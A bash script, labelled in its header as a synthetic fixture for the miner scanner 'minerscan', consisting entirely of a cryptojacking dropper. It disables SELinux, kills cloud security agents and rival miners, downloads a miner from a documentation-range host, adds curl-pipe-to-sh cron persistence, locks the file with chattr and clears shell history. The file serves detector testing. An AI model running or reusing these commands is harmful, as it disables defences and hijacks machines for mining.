#!/bin/bash
# SYNTHETIC TEST FIXTURE for minerscan: harmless text, never executed. Addresses are generated, hosts are documentation ranges or public pool names.
ulimit -n 65535
setenforce 0 2>/dev/null
echo SELINUX=disabled > /etc/selinux/config
systemctl stop aliyun.service; systemctl disable aliyun.service
/usr/local/qcloud/stargate/admin/uninstall.sh
pkill -f xmrig
pkill -f kdevtmpfsi
ps aux | grep -v grep | grep 'minerd' | awk '{print $2}' | xargs kill -9
netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs kill -9
for p in aegis_cli YDService barad_agent; do killall -9 $p; done
chattr -i /etc/ld.so.preload
wget -q http://203.0.113.9/kthreadd -O /tmp/.ICE-unix/kthreadd
chmod +x /tmp/.ICE-unix/kthreadd
(crontab -l 2>/dev/null; echo "*/10 * * * * curl -fsSL http://203.0.113.9/i.sh | sh") | crontab -
nohup /tmp/.ICE-unix/kthreadd -o 203.0.113.9:3333 -u 41pmnqWeNug1ikEBmYhajkDoyXHMNd5nSRuAdPwsKWQSdphFyVWJQ3t76QN1Jt34YJKBdf6thxZazXGpmDVCezCzVXJinrj -p x --donate-level 1 >/dev/null 2>&1 &
chattr +i /tmp/.ICE-unix/kthreadd
history -c
